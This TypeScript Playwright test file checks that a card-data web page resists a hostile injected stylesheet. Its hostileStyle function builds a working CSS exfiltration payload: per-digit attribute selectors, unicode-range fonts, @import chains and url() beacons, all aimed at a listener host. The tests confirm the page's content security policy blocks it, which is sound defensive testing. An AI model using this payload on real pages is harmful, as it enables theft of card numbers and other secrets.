import type { Browser } from 'playwright-core';
import { styleOf, useBrowser, useSite } from '../../testing/browser';
import { openHousehold, pageAddress } from '../../testing/hosted-pages';
import { useServer } from '../../testing/server';

// A stylesheet that wants to know the number of the card, in every way that stylesheets know of telling somebody.

const server = useServer();
const browser = useBrowser();
const listener = useSite(() => ({}));

const DIGITS = [...'0123456789'];
const ELEMENTS = [
  'input',
  'dd',
  'span',
  '#number',
  '.pan',
  '.pin',
  '.name',
  '.copy-icon',
  '.pan-input',
  'html',
  'script',
  'link',
];
const ATTRIBUTES = ['value', 'data-value', 'title', 'aria-label', 'content', 'href', 'nonce', 'placeholder'];

function hostileStyle(home: string): string {
  const url = (what: string) => `url("${home}/${what}")`;
  const listening = ELEMENTS.flatMap((element) =>
    ATTRIBUTES.flatMap((attribute) =>
      DIGITS.map(
        (digit) =>
          `${element}[${attribute}*="${digit}"] { background: ${url(`${element}-${attribute}-${digit}`.replace(/[#.]/g, ''))}; }`,
      ),
    ),
  );
  const letters = DIGITS.map(
    (digit) => `@font-face { font-family: spy; src: ${url(`font-${digit}`)}; unicode-range: U+3${digit}; }`,
  );
  return [
    `@import ${url('import')};`,
    `@import ${url('import-screen')} screen;`,
    `@import ${url('import-wide')} (min-width: 1px);`,
    '@import "/hostile.css?again";',
    '@import "deeper.css";',
    ...letters,
    `* { font-family: spy !important; }`,
    ...listening,
    `body { background: ${url('background')}; cursor: ${url('cursor')}, auto; }`,
    `.pan { border-image: ${url('border')} 1; list-style-image: ${url('list')}; display: list-item; }`,
    `.pan { mask-image: ${url('mask')}; shape-outside: ${url('shape')}; float: left; filter: ${url('filter.svg#f')}; }`,
    `.pan, .pan-input { clip-path: ${url('clip.svg#c')}; background-image: image-set(${url('set')} 1x), ${url('image')}; }`,
    `.pan::before, form::before { content: ${url('content')}; }`,
    `.pan:hover, .copy-icon:focus, .pan-input:focus, .pan-input:valid, .pin-input:valid { background: ${url('state')}; }`,
    `.pan-input:autofill, .error-field:empty { background: ${url('empty')}; }`,
    `svg path { marker-end: ${url('marker.svg#m')}; fill: ${url('paint.svg#p')}; }`,
    `@keyframes spy { to { background-image: ${url('animation')}; } } .pan { animation: spy 1ms infinite; }`,
    `:root { --spy: ${url('variable')}; } .pan dd { background: var(--spy); }`,
    `.pan { color: rgb(1, 2, 3); } .pan-input { color: rgb(1, 2, 3); }`,
  ].join('\n');
}

const host = useSite((origin) => ({
  '/hostile.css': { type: 'text/css', text: hostileStyle(listener().origin) },
  '/deeper.css': { type: 'text/css', text: `body { background: url("${origin}/deeper-image") }` },
}));

/** Returns the requests that anybody got, but for the stylesheet itself. */
function requested(): string[] {
  const own = host().requests.map(({ url }) => url);
  return [...listener().requests.map(({ url }) => url), ...own.filter((url) => url !== '/hostile.css')];
}

async function visit(address: string, options: Parameters<Browser['newContext']>[0] = {}): Promise<void> {
  const context = await browser().newContext(options);
  const page = await context.newPage();
  try {
    await page.goto(address);
    const subject = page.locator('.pan, .pan-input').first();
    await subject.hover();
    if (address.includes('activation')) {
      await page.locator('.pan-input').pressSequentially('9999110100000018');
      await page.locator('.pin-input').pressSequentially('2580');
    } else await page.locator('.copy-icon').click();
    expect(await styleOf(page, '.pan, .pan-input')).toBe('rgb(1, 2, 3)');
    // Two frames are drawn, so that whatever the style asks for was asked for.
    await page.evaluate('new Promise((done) => requestAnimationFrame(() => requestAnimationFrame(done)))');
    await page.waitForLoadState('networkidle');
  } finally {
    await context.close();
  }
}

describe('a hostile stylesheet', () => {
  async function addresses(): Promise<string[]> {
    const home = await openHousehold(server());
    const { card } = await home.addCard({}, '2580');
    const query = { auth: await home.token(), styles: `${host().origin}/hostile.css` };
    return [
      pageAddress(`/secure-data/${card.id}`, query),
      pageAddress(`/secure-data/${card.id}`, { ...query, layout: 'card' }),
      pageAddress('/v1/activation', query),
    ].map((path) => server().url + path);
  }

  it('is applied, and no request carries data away', async () => {
    for (const address of await addresses()) await visit(address);
    expect(host().requests.map(({ url }) => url)).toEqual(Array(3).fill('/hostile.css'));
    expect(host().requests.flatMap(({ headers }) => [headers.referer, headers.cookie])).toEqual(
      Array(6).fill(undefined),
    );
    expect(requested()).toEqual([]);
  });

  it('would be sent without the policy of the page, but not even then with the card', async () => {
    const [list = ''] = await addresses();
    await visit(list, { bypassCSP: true });
    expect(requested()).toEqual(
      expect.arrayContaining(['/import', '/background', '/state', '/content', '/font-9', '/deeper.css']),
    );
    // Even then, no attribute holds a digit of the card.
    expect(requested().filter((url) => /-[0-9]$/.test(url) && !url.startsWith('/font-'))).toEqual([]);
  });

  it('can not have itself replaced by another host', async () => {
    const home = await openHousehold(server());
    const { card } = await home.addCard();
    const address = pageAddress(`/secure-data/${card.id}`, {
      auth: await home.token(),
      styles: `${host().origin}/moved.css`,
    });
    const context = await browser().newContext();
    const page = await context.newPage();
    await page.route('**/moved.css', (route) =>
      route.fulfill({
        status: 302,
        headers: { location: `${listener().origin}/elsewhere.css`, 'access-control-allow-origin': '*' },
      }),
    );
    await page.goto(server().url + address);
    expect(await page.locator('#number').count()).toBe(1);
    expect(requested()).toEqual([]);
    await context.close();
  });
});
